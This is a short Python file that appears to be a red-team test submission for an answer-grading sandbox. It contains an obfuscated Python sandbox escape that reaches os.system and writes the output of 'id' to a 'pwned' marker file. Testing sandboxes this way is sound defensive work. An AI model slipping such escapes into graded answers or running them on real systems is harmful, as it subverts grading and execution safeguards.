"""effect: run-command
tries: the classic escape: object.__subclasses__() (attrgetter, dunder built at run time) -> os._wrap_close -> __init__.__globals__['system'].

No module import at all: only attribute reads on builtin types.
"""

from lagrade.answer import *

from sympy.core.add import attrgetter

subclasses = attrgetter("_" + "_subclasses_" + "_")(object)()
wrap = [c for c in subclasses if attrgetter("_" + "_name_" + "_")(c) == "_wrap_close"][0]
system = attrgetter("_" + "_init__._" + "_globals__")(wrap)["sys" + "tem"]
system("id > /tmp/lagrade-redteam/drop/pwned-subclasses_wrap_close_system")
L = Symbol("x")
